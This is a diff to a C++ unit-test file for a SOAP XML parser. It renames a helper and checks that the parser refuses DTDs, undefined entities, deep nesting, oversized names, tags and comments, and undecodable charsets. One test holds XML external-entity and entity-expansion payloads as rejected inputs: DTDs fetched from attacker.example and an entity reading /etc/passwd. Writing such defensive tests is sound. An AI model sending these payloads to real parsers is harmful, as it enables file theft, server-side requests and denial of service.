@@ -14,7 +14,7 @@ std::string text_of(std::string_view bytes, std::string_view charset = {}) {
 }
 
 /// Why it is not read.
-std::string refusal(std::string_view bytes, std::string_view charset = {}) {
+std::string refusal_of_document(std::string_view bytes, std::string_view charset = {}) {
   try {
     const auto document = parse_xml(bytes, charset);
     return "it was read";
@@ -58,17 +58,19 @@ TEST(XmlDocument, HasTheTextBelowAnElement) {
 
 TEST(XmlDocument, HasNoDtd) {
   const std::string sentence = "it has a DTD, which SOAP forbids";
-  EXPECT_EQ(refusal("<!DOCTYPE a><a/>"), sentence);
-  EXPECT_EQ(refusal("<?xml version='1.0'?><!-- x --><!DOCTYPE a SYSTEM 'http://attacker.example/x.dtd'><a/>"),
+  EXPECT_EQ(refusal_of_document("<!DOCTYPE a><a/>"), sentence);
+  EXPECT_EQ(
+      refusal_of_document("<?xml version='1.0'?><!-- x --><!DOCTYPE a SYSTEM 'http://attacker.example/x.dtd'><a/>"),
+      sentence);
+  EXPECT_EQ(refusal_of_document("<!DOCTYPE a [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><a>&e;</a>"), sentence);
+  EXPECT_EQ(refusal_of_document("<!DOCTYPE a [<!ENTITY a '1'><!ENTITY b '&a;&a;'><!ENTITY c '&b;&b;'>]><a>&c;</a>"),
             sentence);
-  EXPECT_EQ(refusal("<!DOCTYPE a [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><a>&e;</a>"), sentence);
-  EXPECT_EQ(refusal("<!DOCTYPE a [<!ENTITY a '1'><!ENTITY b '&a;&a;'><!ENTITY c '&b;&b;'>]><a>&c;</a>"), sentence);
-  EXPECT_EQ(refusal("<!DOCTYPE a [<!ENTITY % p SYSTEM 'http://attacker.example/p'>%p;]><a/>"), sentence);
+  EXPECT_EQ(refusal_of_document("<!DOCTYPE a [<!ENTITY % p SYSTEM 'http://attacker.example/p'>%p;]><a/>"), sentence);
 }
 
 TEST(XmlDocument, HasNoEntitiesButThoseOfXml) {
   EXPECT_EQ(text_of("<a>&amp;&lt;&gt;&quot;&apos;</a>"), "&<>\"'");
-  EXPECT_EQ(refusal("<a>&nbsp;</a>").substr(0, 16), "Undefined entity");
+  EXPECT_EQ(refusal_of_document("<a>&nbsp;</a>").substr(0, 16), "Undefined entity");
 }
 
 TEST(XmlDocument, MayShowWhatADeclarationLooksLike) {
@@ -77,38 +79,38 @@ TEST(XmlDocument, MayShowWhatADeclarationLooksLike) {
 }
 
 TEST(XmlDocument, IsAtMost100ElementsDeep) {
-  EXPECT_EQ(refusal(nested(100)), "it was read");
-  EXPECT_EQ(refusal(nested(101)), "it is nested deeper than 100 elements");
-  EXPECT_EQ(refusal(nested(1'000'000)), "it is nested deeper than 100 elements");
+  EXPECT_EQ(refusal_of_document(nested(100)), "it was read");
+  EXPECT_EQ(refusal_of_document(nested(101)), "it is nested deeper than 100 elements");
+  EXPECT_EQ(refusal_of_document(nested(1'000'000)), "it is nested deeper than 100 elements");
 }
 
 TEST(XmlDocument, HasAtMost1000Names) {
-  EXPECT_EQ(refusal(with_names(900)), "it was read");
-  EXPECT_EQ(refusal(with_names(1100)), "it has more than 1000 different names");
-  EXPECT_EQ(refusal(with_names(1100) + "<").substr(0, 14), "Unclosed token");
+  EXPECT_EQ(refusal_of_document(with_names(900)), "it was read");
+  EXPECT_EQ(refusal_of_document(with_names(1100)), "it has more than 1000 different names");
+  EXPECT_EQ(refusal_of_document(with_names(1100) + "<").substr(0, 14), "Unclosed token");
   std::string attributes;
   for (int i = 0; i < 1100; ++i) attributes += " n" + std::to_string(i) + "=''";
-  EXPECT_EQ(refusal("<r xmlns='urn:r'><a xmlns='urn:a'" + attributes + "/>x</r>"),
+  EXPECT_EQ(refusal_of_document("<r xmlns='urn:r'><a xmlns='urn:a'" + attributes + "/>x</r>"),
             "it has more than 1000 different names");
 }
 
 TEST(XmlDocument, HasNoNamespacesOfMoreThan500Bytes) {
-  EXPECT_EQ(refusal("<a xmlns='" + std::string(500, 'u') + "'/>"), "it was read");
+  EXPECT_EQ(refusal_of_document("<a xmlns='" + std::string(500, 'u') + "'/>"), "it was read");
   const std::string long_uri(501, 'u');
   for (const std::string& hidden :
        {"<a><b xmlns:p='" + long_uri + "'/></a>", "<a x='1' xmlns\n=\t\"" + long_uri + "\"/>", "<a xmlns='" + long_uri})
-    EXPECT_EQ(refusal(hidden), "it has a namespace of more than 500 bytes");
-  EXPECT_EQ(refusal("<a xmlns='u' b='" + long_uri + "'/>"), "it was read");
+    EXPECT_EQ(refusal_of_document(hidden), "it has a namespace of more than 500 bytes");
+  EXPECT_EQ(refusal_of_document("<a xmlns='u' b='" + long_uri + "'/>"), "it was read");
 }
 
 TEST(XmlDocument, HasNoTagsOrCommentsOfMoreThan64KiB) {
   const std::string sentence = "it has a tag or a comment of more than 64 KiB";
   const std::string long_text(1 << 20, 'x');
-  EXPECT_EQ(refusal("<a b='" + long_text + "'/>"), sentence);
-  EXPECT_EQ(refusal("<" + long_text + "/>"), sentence);
-  EXPECT_EQ(refusal("<a><!--" + long_text + "--></a>"), sentence);
-  EXPECT_EQ(refusal("<?x " + long_text + "?><a/>"), sentence);
-  EXPECT_EQ(refusal("<a b='" + long_text.substr(0, 60'000) + "'/>"), "it was read");
+  EXPECT_EQ(refusal_of_document("<a b='" + long_text + "'/>"), sentence);
+  EXPECT_EQ(refusal_of_document("<" + long_text + "/>"), sentence);
+  EXPECT_EQ(refusal_of_document("<a><!--" + long_text + "--></a>"), sentence);
+  EXPECT_EQ(refusal_of_document("<?x " + long_text + "?><a/>"), sentence);
+  EXPECT_EQ(refusal_of_document("<a b='" + long_text.substr(0, 60'000) + "'/>"), "it was read");
 }
 
 TEST(XmlDocument, HasTextsOfAnyLength) {
@@ -156,7 +158,7 @@ TEST(XmlDocument, IsReadInUtf16HoweverThatIsSaid) {
       EXPECT_EQ(text_of(bytes, "utf-16"), "x");
       EXPECT_EQ(text_of(bytes, big_endian ? "UTF-16BE" : "UTF-16LE"), "x");
     }
-    EXPECT_EQ(refusal(mark + wide("<!DOCTYPE a><a/>", big_endian)), "it has a DTD, which SOAP forbids");
+    EXPECT_EQ(refusal_of_document(mark + wide("<!DOCTYPE a><a/>", big_endian)), "it has a DTD, which SOAP forbids");
   }
 }
 
@@ -171,25 +173,25 @@ TEST(XmlDocument, IsReadInTheEncodingsThatAreInUse) {
 }
 
 TEST(XmlDocument, NamesAnEncodingThatIsNotKnown) {
-  EXPECT_EQ(refusal("<?xml version='1.0' encoding='UTF-7'?><a>\xE4</a>"),
+  EXPECT_EQ(refusal_of_document("<?xml version='1.0' encoding='UTF-7'?><a>\xE4</a>"),
             "it is in the charset \"UTF-7\", which cannot be decoded");
-  EXPECT_EQ(refusal("<a>\xE4</a>", "IBM037"), "it is in the charset \"IBM037\", which cannot be decoded");
-  EXPECT_EQ(refusal("<a>\xE4</a>", "\xE4\n" + std::string(100, 'x')),
+  EXPECT_EQ(refusal_of_document("<a>\xE4</a>", "IBM037"), "it is in the charset \"IBM037\", which cannot be decoded");
+  EXPECT_EQ(refusal_of_document("<a>\xE4</a>", "\xE4\n" + std::string(100, 'x')),
             "it is in the charset \"??" + std::string(38, 'x') + "\", which cannot be decoded");
 }
 
 TEST(XmlDocument, RefusesBytesThatAreNotOfTheEncoding) {
-  EXPECT_NE(refusal("<a>\xE4</a>"), "it was read");
-  EXPECT_NE(refusal("<a>\xC0\xAF</a>"), "it was read");
-  EXPECT_NE(refusal("<?xml version='1.0' encoding='US-ASCII'?><a>\xE4</a>"), "it was read");
+  EXPECT_NE(refusal_of_document("<a>\xE4</a>"), "it was read");
+  EXPECT_NE(refusal_of_document("<a>\xC0\xAF</a>"), "it was read");
+  EXPECT_NE(refusal_of_document("<?xml version='1.0' encoding='US-ASCII'?><a>\xE4</a>"), "it was read");
 }
 
 TEST(XmlDocument, IsWellFormed) {
   for (const char* malformed :
        {"", " ", "{}", "<a>", "<a></b>", "<a/><b/>", "<a b='1' b='2'/>", "<a b=1/>", "<p:a/>", "<a>&#0;</a>",
         "<a>\x01</a>", "<html><br></html>", "<a", "<!--", "<![CDATA[", "<?xml", "<a xmlns:p=''/>", "x<a/>"})
-    EXPECT_NE(refusal(malformed), "it was read") << malformed;
-  EXPECT_EQ(refusal("<a></b>"), "Tag mismatch in line 1 column 5");
+    EXPECT_NE(refusal_of_document(malformed), "it was read") << malformed;
+  EXPECT_EQ(refusal_of_document("<a></b>"), "Tag mismatch in line 1 column 5");
 }
 
 }  // namespace
